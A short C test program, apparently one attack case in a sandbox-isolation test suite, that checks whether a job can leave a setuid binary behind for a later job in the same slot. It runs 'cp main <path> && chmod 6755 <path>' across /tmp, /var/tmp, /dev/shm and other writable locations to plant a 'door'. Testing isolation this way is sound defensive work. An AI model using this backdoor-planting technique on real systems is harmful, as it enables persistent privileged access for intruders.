/* attack: leaves a setuid program where a later job of the slot could execute it
 * proof: the later job finds no such program in any place that can be written
 * run: sequence */
#include "../../attack.h"

int main(void) {
  static const char *const paths[] = {"/tmp/door", "/var/tmp/door", "/dev/shm/door", "/job/box/door", "door"};
  char command[256];
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
    snprintf(command, sizeof command, "cp main %s && chmod 6755 %s", paths[i], paths[i]);
    if (system(command) == 0)
      planted("%s", paths[i]);
  }
}
